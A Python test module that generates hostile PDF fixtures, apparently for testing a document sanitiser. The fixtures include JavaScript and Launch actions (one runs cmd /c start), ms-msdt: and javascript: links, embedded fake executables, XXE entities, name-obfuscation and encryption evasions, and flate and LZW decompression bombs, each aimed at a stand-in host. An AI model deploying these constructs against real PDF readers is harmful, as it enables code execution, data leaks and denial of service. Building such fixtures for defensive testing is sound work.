"""Hostile PDFs: what acts in every place that can hold it, files inside, disguises, bombs, and shapes without end."""

import io
import re
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, StreamDecodeLevel, String

from tests.corpus.made import MARK, File, some
from tests.portal.lib import evil

WEB = f"https://{MARK}/"
SCRIPT = f"app.launchURL('{WEB}')"


def act(kind, **more):
    return lambda _pdf: Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def spec(pdf):
    held_inside = pdf.make_stream(b"MZ " + MARK.encode())
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(f"{MARK}.exe"), EF=Dictionary(F=held_inside, UF=held_inside))
    )


def chain(*kinds):
    """A harmless action that leads on to another."""
    return lambda pdf: Dictionary(
        S=Name.URI, URI=String("https://example.org/"), Next=Array([kind(pdf) for kind in kinds])
    )


def uri(address):
    return act("URI", URI=String(address))


ACTIONS = {
    "a script": act("JavaScript", JS=String(SCRIPT)),
    "a script in a stream": lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode())),
    "a script that says whose it is": lambda pdf: Dictionary(
        S=Name.JavaScript, JS=String(SCRIPT), P=pdf.pages[0].obj
    ),
    "a program": act("Launch", F=String(f"{MARK}.exe")),
    "a program of Windows": act("Launch", Win=Dictionary(F=String("cmd"), P=String(f"/c start {WEB}"))),
    "a file that is launched": lambda pdf: Dictionary(S=Name.Launch, F=spec(pdf), NewWindow=True),
    "a form that sends": act("SubmitForm", F=String(WEB), Flags=4),
    "data that are taken in": act("ImportData", F=String(f"//{MARK}/a.fdf")),
    "another document": act("GoToR", F=String(f"\\\\\\\\{MARK}\\\\a.pdf"), D=Array([0, Name.Fit])),
    "a document inside": lambda pdf: Dictionary(
        S=Name.GoToE, F=spec(pdf), T=Dictionary(R=Name.C, N=String(MARK))
    ),
    "a rendition": act("Rendition", OP=0, JS=String(SCRIPT)),
    "a sound": lambda pdf: Dictionary(S=Name.Sound, Sound=pdf.make_stream(MARK.encode(), R=8000)),
    "a film": act("Movie", T=String(MARK), Operation=Name.Play),
    "a hidden field": act("Hide", T=String(MARK), H=False),
    "an article elsewhere": act("Thread", F=String(f"//{MARK}/a.pdf"), D=0),
    "a command of a film": act("RichMediaExecute", CMD=Dictionary(C=String(MARK))),
    "a view in space": act("GoTo3DView", V=String(MARK)),
    "an action nobody knows": act("Evil", F=String(WEB)),
    "a local file as a link": uri(f"file:///{MARK}/a.exe"),
    "a share as a link": uri(f"\\\\\\\\{MARK}\\\\share"),
    "a script as a link": uri(f"javascript:location='{WEB}'"),
    "a script as a link behind a blank": uri(f" \\n\tjavascript:'{WEB}'"),
    "words as a link": uri(f"data:text/html,<script src={WEB}></script>"),
    "a program of Windows as a link": uri(f"ms-msdt:/id {MARK}"),
    "a command of the reader": act("Named", N=Name("/SaveAs"), X=String(MARK)),
    "a program after a link": chain(act("Launch", F=String(f"{MARK}.exe"))),
    "a script after a link after a link": chain(chain(act("JavaScript", JS=String(SCRIPT)))),
}


def note(pdf, kind="Link", **more):
    return Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), **more)


def opened_by_root(pdf, action):
    pdf.Root.OpenAction = action


def on_closing(pdf, action):
    pdf.Root.AA = Dictionary(WC=action, WP=action)


def on_the_page(pdf, action):
    pdf.pages[0].obj.AA = Dictionary(O=action, C=action)


def in_a_link(pdf, action):
    pdf.pages[0].obj.Annots = Array([note(pdf, A=pdf.make_indirect(action))])


def in_an_old_link(pdf, action):
    pdf.pages[0].obj.Annots = Array([note(pdf, PA=action)])


def in_a_watermark(pdf, action):
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note(pdf, "Watermark", AA=Dictionary(PO=action)))])


def field(pdf, **more):
    box = pdf.make_indirect(note(pdf, "Widget", FT=Name.Tx, T=String("a"), **more))
    pdf.pages[0].obj.Annots = Array([box])
    pdf.Root.AcroForm = Dictionary(Fields=Array([box]))
    return box


def in_a_field(pdf, action):
    field(pdf, A=action)


def as_one_types(pdf, action):
    field(pdf, AA=Dictionary(K=action, F=action, V=action))


def above_a_field(pdf, action):
    box = field(pdf)
    above = pdf.make_indirect(Dictionary(T=String("b"), Kids=Array([box]), AA=Dictionary(C=action)))
    box.Parent = above
    pdf.Root.AcroForm.Fields = Array([above])


def in_a_bookmark(pdf, action):
    mark = pdf.make_indirect(Dictionary(Title=String("One"), A=action))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=mark, Last=mark, Count=1))
    mark.Parent = pdf.Root.Outlines


def by_a_name(pdf, action):
    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), pdf.make_indirect(action)])))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])))


def after_a_page_is_turned(pdf, action):
    turn = Dictionary(S=Name.Named, N=Name.NextPage, Next=action)
    pdf.pages[0].obj.Annots = Array([note(pdf, A=turn)])


def in_a_list_nobody_counts(pdf, action):
    """Annotations that are themselves an object, direct in it."""
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([note(pdf, A=action), note(pdf, "Screen", A=action)]))


PLACES = {
    "on opening": opened_by_root, "on closing": on_closing, "on a page": on_the_page, "in a link": in_a_link,
    "in an old link": in_an_old_link, "in a watermark": in_a_watermark, "in a field": in_a_field,
    "while one types": as_one_types, "above a field": above_a_field, "in a bookmark": in_a_bookmark,
    "by a name": by_a_name, "after a page is turned": after_a_page_is_turned,
    "in a list nobody counts": in_a_list_nobody_counts,
}  # fmt: skip


def saved(change, **how):
    """A page with a change, as a file's bytes."""

    def build(_path):
        pdf = evil.blank()
        change(pdf)
        file = io.BytesIO()
        pdf.save(file, **how)
        return file.getvalue()

    return build


def acting(action, place, **how):
    return saved(lambda pdf: PLACES[place](pdf, ACTIONS[action](pdf)), **how)


# Names/JavaScript holds scripts only, and what else stands there is no action of anybody's.
CROSSED = [
    File("PDF", f"{action}, {place}", acting(action, place), "safe")
    for action, place in some(ACTIONS, PLACES, every=4)
]


def kept(pdf, key, thing):
    pdf.Root[key] = thing


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]),
        XFA=Array([String("template"), pdf.make_stream(f"<script>{SCRIPT}</script>".encode())]),
    )


def external_picture(pdf):
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, F=String(WEB))
    image.FFilter = Name.DCTDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=image))


def reference(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String(f"//{MARK}/a.pdf"), Page=0)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))


def postscript(pdf):
    code = pdf.make_stream(f"({WEB}) run".encode(), Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=code))


def form_of_postscript(pdf):
    code = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    code.Subtype2, code.PS = Name.PS, pdf.make_stream(f"({WEB}) run".encode())
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=code))


def proxy(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.OPI = Dictionary({"/2.0": Dictionary(Type=Name.OPI, Version=2, F=String(f"//{MARK}/a.tif"))})
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))


def signed(pdf):
    box = field(pdf)
    box.FT, box.V = Name.Sig, Dictionary(Type=Name.Sig, Name=String(MARK), Contents=String(MARK))


def xmp(pdf):
    words = f'<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><script>{SCRIPT}</script></x:xmpmeta>'
    pdf.Root.Metadata = pdf.make_stream(words.encode(), Type=Name.Metadata, Subtype=Name.XML)


def xmp_with_entities(pdf):
    words = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{WEB}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&b;</x:xmpmeta>'
    pdf.Root.Metadata = pdf.make_stream(words.encode(), Type=Name.Metadata, Subtype=Name.XML)


def words_of_a_page(pdf):
    stream = pdf.make_stream(f"<rdf>{WEB}</rdf>".encode(), Type=Name.Metadata, Subtype=Name.XML)
    pdf.pages[0].obj.Metadata = stream


def own_copy(pdf):
    pdf.pages[0].obj.PieceInfo = Dictionary(Illustrator=Dictionary(Private=pdf.make_stream(MARK.encode())))


def alternate(pdf):
    names = Dictionary(Names=Array([String("a"), Dictionary(Type=Name.SlideShow, Resources=String(WEB))]))
    pdf.Root.Names = Dictionary(AlternatePresentations=names)


INSIDE = {
    "a program by its name": lambda pdf: kept(
        pdf, "/Names", Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), spec(pdf)])))
    ),
    "a program beside it": lambda pdf: kept(pdf, "/AF", Array([spec(pdf)])),
    "a program beside a page": lambda pdf: pdf.pages[0].obj.__setitem__("/AF", Array([spec(pdf)])),
    "a portfolio": lambda pdf: kept(pdf, "/Collection", Dictionary(D=String(MARK), View=Name.D)),
    "an address for every link": lambda pdf: kept(pdf, "/URI", Dictionary(Base=String(WEB))),
    "what a reader must have": lambda pdf: kept(
        pdf, "/Requirements", Array([Dictionary(S=Name.EnableJavaScripts, RH=String(MARK))])
    ),
    "pages of the web": lambda pdf: kept(pdf, "/SpiderInfo", Dictionary(V=1, C=Array([String(WEB)]))),
    "keys of a signer": lambda pdf: kept(pdf, "/DSS", Dictionary(Certs=Array([pdf.make_stream(MARK.encode())]))),
    "a form of its own language": xfa,
    "a picture that lies elsewhere": external_picture,
    "a page that lies elsewhere": reference,
    "PostScript": postscript,
    "a form of PostScript": form_of_postscript,
    "a picture for the printer that lies elsewhere": proxy,
    "a signature": signed,
    "a script in its properties": xmp,
    "an entity in its properties": xmp_with_entities,
    "properties of a page": words_of_a_page,
    "the copy of another program": own_copy,
    "a slide show": alternate,
}  # fmt: skip
# Kinds of notes that play, hold files or say what nobody should read.
NOTES = (
    "Screen", "Movie", "Sound", "3D", "RichMedia", "FileAttachment", "Text", "Popup", "Redact", "TrapNet",
    "Projection", "Evil",
)  # fmt: skip


def noted(kind):
    def change(pdf):
        inside = pdf.make_stream(MARK.encode())
        thing = note(
            pdf, kind, Contents=String(MARK), FS=spec(pdf), Movie=Dictionary(F=String(WEB)), Sound=inside,
            RichMediaContent=Dictionary(Assets=inside), MK=Dictionary(I=inside),
        )  # fmt: skip
        thing["/3DD"] = inside
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(thing)])

    return saved(change)


def plain(action, place):
    """Every object to be read in it, as another program might write it."""
    return acting(
        action, place, compress_streams=False, object_stream_mode=ObjectStreamMode.disable,
        stream_decode_level=StreamDecodeLevel.generalized,
    )  # fmt: skip


def changed(build, *turns):
    """Bytes of it replaced; tables that no longer fit are found anew by whoever reads it."""

    def made(path):
        content = build(path)
        for was, now in turns:
            assert was in content, was
            content = content.replace(was, now)
        return content

    return made


HIDDEN_NAMES = (
    (b"/JavaScript", b"/#4aava#53cript"), (b"/JS", b"/J#53"), (b"/OpenAction", b"/Open#41ction"), (b"/S ", b"/#53 "),
)  # fmt: skip
HELD = {
    "a script on opening": ("a script", "on opening"),
    "a program in a link": ("a program", "in a link"),
    "a form that sends, in a field": ("a form that sends", "in a field"),
}


def update(pdf_bytes):
    """What a later save adds: the root anew, with a script."""
    root = re.search(rb"/Root (\d+) 0 R", pdf_bytes)[1].decode()
    pages = re.search(rb"/Pages (\d+) 0 R", pdf_bytes)[1].decode()
    before = int(re.findall(rb"startxref\s+(\d+)", pdf_bytes)[-1])
    thing = (
        f"{root} 0 obj\n<</Type/Catalog/Pages {pages} 0 R/OpenAction<</S/JavaScript/JS({SCRIPT.replace('(', '').replace(')', '')})>>>>"
        "\nendobj\n"
    ).encode()
    at = len(pdf_bytes) + 1
    table = f"xref\n{root} 1\n{at:010d} 00000 n \ntrailer\n<</Root {root} 0 R/Size 99/Prev {before}>>\nstartxref\n{at + len(thing)}\n%%EOF\n"
    return pdf_bytes + b"\n" + thing + table.encode()


def behind(first, build):
    return lambda path: first + build(path)


def disguised():
    for name, (action, place) in HELD.items():
        yield (
            f"{name}, packed in streams",
            acting(action, place, object_stream_mode=ObjectStreamMode.generate),
            "safe",
        )
        yield f"{name}, for the web", acting(action, place, linearize=True), "safe"
        yield (
            f"{name}, of the oldest version",
            changed(plain(action, place), (b"%PDF-1.", b"%PDF-0.")),
            "either",
        )
        yield f"{name}, of a version to come", changed(plain(action, place), (b"%PDF-1.", b"%PDF-7.")), "safe"
        yield (
            f"{name}, its table broken",
            changed(plain(action, place), (b"startxref\n", b"startxref\n9")),
            "safe",
        )
        yield f"{name}, its ends of lines turned", changed(plain(action, place), (b"\n", b"\r")), "either"
        yield (
            f"{name}, behind a word",
            behind(b"\xef\xbb\xbf", plain(action, place)),
            "refused",
        )
        yield (
            f"{name}, behind a kilobyte",
            behind(b"%" * 1023 + b"\n", plain(action, place)),
            "refused",
        )
        yield (
            f"{name}, under an open lock",
            acting(action, place, encryption=pikepdf.Encryption(user="", owner="x", R=4)),
            "refused",
        )
        yield (
            f"{name}, with remarks between its words",
            changed(plain(action, place), (b"/S /", b"/S %" + MARK.encode() + b"\n/")),
            "safe",
        )
        yield f"{name}, said twice", changed(plain(action, place), (b"/S /", b"/S /GoTo /S /")), "safe"
    yield "names that hide their letters", changed(plain("a script", "on opening"), *HIDDEN_NAMES), "safe"
    yield "a script added later", lambda path: update(plain_page(path)), "safe"
    words = SCRIPT.encode()
    yield (
        "a script in sixteen bits",
        saved(lambda pdf: opened_by_root(pdf, Dictionary(S=Name.JavaScript, JS=String(SCRIPT + "\u2603")))),
        "safe",
    )
    yield (
        "a script in hexadecimal",
        changed(
            plain("a script", "on opening"),
            (
                b"(" + words.replace(b"(", b"\\(").replace(b")", b"\\)") + b")",
                b"<" + words.hex().encode() + b">",
            ),
        ),
        "safe",
    )


plain_page = saved(lambda _pdf: None, object_stream_mode=ObjectStreamMode.disable, compress_streams=False)


@cache
def zeros(size):
    packer, piece = zlib.compressobj(9), bytes(1 << 20)
    return b"".join(packer.compress(piece) for _ in range(size >> 20)) + packer.flush()


def raw_stream(content, filters, key="page", **more):
    """A stream whose bytes (`content` makes them) are packed already, as the page itself, a form, a font, or a picture."""

    def change(pdf):
        stream = pdf.make_stream(b"")
        stream.write(content(), filter=Array([Name(each) for each in filters]), decode_parms=None)
        for name, value in more.items():
            stream[f"/{name}"] = value
        page = pdf.pages[0].obj
        if key == "page":
            page.Contents = stream
            return
        stream.Type = Name.XObject
        if key == "form":
            stream.Subtype, stream.BBox = Name.Form, Array([0, 0, 9, 9])
        else:
            stream.Subtype, stream.ColorSpace = Name.Image, more.get("ColorSpace", Name.DeviceRGB)
        page.Resources = Dictionary(XObject=Dictionary(X=stream))
        page.Contents = pdf.make_stream(b"q 500 0 0 500 0 0 cm /X Do Q")

    return saved(
        change, recompress_flate=False, stream_decode_level=StreamDecodeLevel.none, compress_streams=False
    )


@cache
def lzw(size):
    """The same byte so many times, packed by LZW with one growing word after the other."""
    out, bits, count, width, code = bytearray(), 0, 0, 9, 258

    def put(value):
        nonlocal bits, count
        bits, count = (bits << width) | value, count + width
        while count >= 8:
            count -= 8
            out.append((bits >> count) & 255)
        bits &= (1 << count) - 1

    put(256)
    length, made = 1, 0
    put(0)
    made += 1
    while made < size:
        put(code)
        length, code = length + 1, code + 1
        made += length
        width = 9 + (code >= 511) + (code >= 1023) + (code >= 2047)
        if code >= 4094:
            put(256)
            width, code, length = 9, 258, 1
            put(0)
    put(257)
    out.append((bits << (8 - count)) & 255)
    return bytes(out)


def hexed(content):
    return content.hex().encode() + b">"


def lying(build):
    """A stream that says it is ten bytes long."""
    return lambda path: re.sub(rb"/Length \d{4,}", b"/Length 10", build(path))


def picture(width, height, bits, space, **more):
    size = height * ((width * bits * (3 if space == Name.DeviceRGB else 1) + 7) // 8)
    return raw_stream(
        lambda: zeros(size), ["/FlateDecode"], "picture", Width=width, Height=height, BitsPerComponent=bits,
        ColorSpace=space, **more,
    )  # fmt: skip


SIZE = 150 << 20
BOMBS = {
    "a page behind hexadecimal": (raw_stream(lambda: hexed(zeros(SIZE)), ["/ASCIIHexDecode", "/FlateDecode"]), "refused"),
    "a form behind hexadecimal": (raw_stream(lambda: hexed(zeros(SIZE)), ["/ASCIIHexDecode", "/FlateDecode"], "form"), "refused"),
    "a page by a short name": (raw_stream(lambda: zeros(SIZE), ["/Fl"]), "refused"),
    "a form by a short name": (raw_stream(lambda: zeros(SIZE), ["/Fl"], "form"), "refused"),
    "packed twice by short names": (raw_stream(lambda: zlib.compress(zeros(SIZE)), ["/Fl", "/Fl"]), "refused"),
    "packed in two ways": (raw_stream(lambda: lzw(2_000_000), ["/LZWDecode", "/FlateDecode"]), "refused"),
    "a page by LZW": (raw_stream(lambda: lzw(SIZE), ["/LZWDecode"]), "refused"),
    "a form by LZW": (raw_stream(lambda: lzw(SIZE), ["/LZWDecode"], "form"), "refused"),
    "a page by runs": (raw_stream(lambda: b"\x81\x00" * (SIZE // 128), ["/RunLengthDecode"]), "refused"),
    "a page that lies about its length": (lying(raw_stream(lambda: zeros(SIZE), ["/FlateDecode"])), "refused"),
    "a form that lies about its length": (lying(raw_stream(lambda: zeros(SIZE), ["/FlateDecode"], "form")), "refused"),
    "a form that says it is a picture": (raw_stream(lambda: zeros(SIZE), ["/FlateDecode"], "form", Width=1), "refused"),
    "a picture of nine hundred million dots": (picture(30_000, 30_000, 1, Name.DeviceGray), "refused"),
    "a picture of 25 thousand dots square in colour": (picture(25_000, 25_000, 8, Name.DeviceRGB), "refused"),
    "a mask of nine hundred million dots": (picture(30_000, 30_000, 1, Name.DeviceGray, ImageMask=True), "refused"),
    "a picture whose sides have no end": (
        raw_stream(lambda: zlib.compress(b"0"), ["/FlateDecode"], "picture", Width=2_000_000_000, Height=2_000_000_000,
                   BitsPerComponent=8),
        "refused",
    ),
    "rows without end": (
        raw_stream(lambda: zlib.compress(bytes(99)), ["/FlateDecode"], "picture", Width=9, Height=9, BitsPerComponent=8,
                   DecodeParms=Array([Dictionary(Predictor=15, Columns=2_000_000_000)])),
        "either",
    ),
}  # fmt: skip


def body(*things, root=1, more=""):
    """A PDF written by hand: each thing is an object, numbered from 1."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, thing in enumerate(things, 1):
        places.append(out.tell())
        out.write(
            f"{number} 0 obj\n".encode()
            + (thing if isinstance(thing, bytes) else thing.encode())
            + b"\nendobj\n"
        )
    at = out.tell()
    out.write(f"xref\n0 {len(things) + 1}\n0000000000 65535 f \n".encode())
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(
        f"trailer\n<</Root {root} 0 R/Size {len(things) + 1}{more}>>\nstartxref\n{at}\n%%EOF\n".encode()
    )
    return out.getvalue()


PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{}>>"
ROOT = "<</Type/Catalog/Pages 2 0 R{}>>"


def simple(*more, root="", page=""):
    return body(ROOT.format(root), PAGES, PAGE.format(page), *more)


SHAPES = {
    "lists in lists": (lambda: simple("[" * 60_000 + "]" * 60_000), "either"),
    "bookmarks in a circle": (lambda:
        simple("<</First 5 0 R/Last 5 0 R/Count 1>>", "<</Title(a)/Parent 4 0 R/Next 5 0 R/First 5 0 R>>", root="/Outlines 4 0 R"),
        "either",
    ),
    "names in a circle": (lambda: simple("<</Kids[4 0 R]>>", root="/Names<</Dests 4 0 R/EmbeddedFiles 4 0 R>>"), "either"),
    "fields in a circle": (lambda:
        simple("<</T(a)/Kids[4 0 R]/Parent 4 0 R>>", root="/AcroForm<</Fields[4 0 R]>>", page="/Annots[4 0 R]"),
        "either",
    ),
    "tags in a circle": (lambda: simple("<</Type/StructTreeRoot/K 5 0 R>>", "<</S/P/P 4 0 R/K[5 0 R]>>", root="/StructTreeRoot 4 0 R"), "either"),
    "a page that is its own parent": (lambda: body(ROOT.format(""), PAGES, "<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"), "either"),
    "an action after itself": (lambda: simple("<</S/URI/URI(https://example.org)/Next 4 0 R>>", root="/OpenAction 4 0 R"), "either"),
    "a form that draws itself": (lambda:
        simple(
            "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 5>>\nstream\n/X Do\nendstream",
            "<</Length 5>>\nstream\n/X Do\nendstream",
            page="/Contents 5 0 R/Resources<</XObject<</X 4 0 R>>>>",
        ),
        "either",
    ),
    "a letter that draws itself": (lambda:
        simple(
            "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
            "/Encoding<</Differences[65/a]>>/CharProcs<</a 5 0 R>>/Resources<</Font<</F 4 0 R>>>>>>",
            "<</Length 22>>\nstream\nBT /F 9 Tf (AAAA) Tj ET\nendstream",
            page="/Contents 5 0 R/Resources<</Font<</F 4 0 R>>>>",
        ),
        "either",
    ),
    "a pattern without measure": (lambda:
        simple(
            "<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .00001/YStep .00001/Resources<<>>/Length 12>>\nstream\n0 0 1 1 re f\nendstream",
            "<</Length 47>>\nstream\n/Pattern cs /P scn 0 0 595 842 re f           \nendstream",
            page="/Contents 5 0 R/Resources<</Pattern<</P 4 0 R>>>>",
        ),
        "either",
    ),
    "a page of no number": (lambda: body(ROOT.format(""), PAGES, "<</Type/Page/Parent 2 0 R/MediaBox[(a)/b null 9]>>"), "either"),
    "a page of too few numbers": (lambda: body(ROOT.format(""), PAGES, "<</Type/Page/Parent 2 0 R/MediaBox[0 0]>>"), "either"),
    "a page of a unit without end": (lambda: body(ROOT.format(""), PAGES, PAGE.format("/UserUnit 100000")), "refused"),
    "a page of a negative unit": (lambda: body(ROOT.format(""), PAGES, PAGE.format("/UserUnit -1")), "refused"),
    "a page of nothing": (lambda: body(ROOT.format(""), "<</Type/Pages/Kids[null]/Count 1>>", "null"), "refused"),
    "pages that are a word": (lambda: body("<</Type/Catalog/Pages(a)>>"), "refused"),
    "a root that is a list": (lambda: body("[1 0 R]"), "refused"),
    "no root": (lambda: body(root=9), "refused"),
    "a count below nothing": (lambda: body(ROOT.format(""), "<</Type/Pages/Kids[3 0 R]/Count -5>>", PAGE.format("")), "either"),
    "a table that begins at itself": (lambda: simple().replace(b"trailer\n<<", b"trailer\n<</Prev 9/XRefStm 9 "), "either"),
    "200,001 pieces": (lambda: simple(*["null" if n else "1" for n in range(200_001)], page="/A[" + " ".join(f"{n} 0 R" for n in range(4, 200_004)) + "]"), "refused"),
    "a stream longer than the file": (lambda: simple("<</Length 999999999>>\nstream\n0 0 9 9 re f", page="/Contents 4 0 R"), "either"),
    "a stream below nothing": (lambda: simple("<</Length -1>>\nstream\nq\nendstream", page="/Contents 4 0 R"), "either"),
    "a word without end": (lambda: simple("(" * 400_000), "either"),
    "a number without end": (lambda: simple(page="/Rotate " + "9" * 400_000), "either"),
    "a turn of no quarter": (lambda: simple(page="/Rotate 33"), "either"),
    "a name without end": (lambda: simple(page="/" + "A" * 400_000 + " 1"), "either"),
    "a page that opens a million brackets": (lambda:
        simple(b"<</Length 1000000>>\nstream\n" + b"q " * 500_000 + b"\nendstream", page="/Contents 4 0 R"), "either",
    ),
    "a page that cuts a million times": (lambda:
        simple(b"<</Length 1300000>>\nstream\n" + b"0 0 9 9 re W " * 100_000 + b"\nendstream", page="/Contents 4 0 R"), "either",
    ),
    "packed objects that continue themselves": (lambda:
        simple("<</Type/ObjStm/N 1/First 4/Extends 4 0 R/Length 8>>\nstream\n9 0 null\nendstream"), "either",
    ),
    "a form of fields alone": (lambda: b"%FDF-1.2\n1 0 obj<</FDF<</F(https://" + MARK.encode() + b"/a.pdf)>>>>endobj", "refused"),
}  # fmt: skip

HOSTILE = [
    *CROSSED,
    *(File("PDF", f"holds {name}", saved(change), "safe") for name, change in INSIDE.items()),
    *(File("PDF", f"a note of the kind {kind}", noted(kind), "safe") for kind in NOTES),
    *(File("PDF", name, build, fate) for name, build, fate in disguised()),
    *(File("PDF", f"a bomb: {name}", build, fate) for name, (build, fate) in BOMBS.items()),
    *(File("PDF", name, lambda _, b=build: b(), fate) for name, (build, fate) in SHAPES.items()),
]
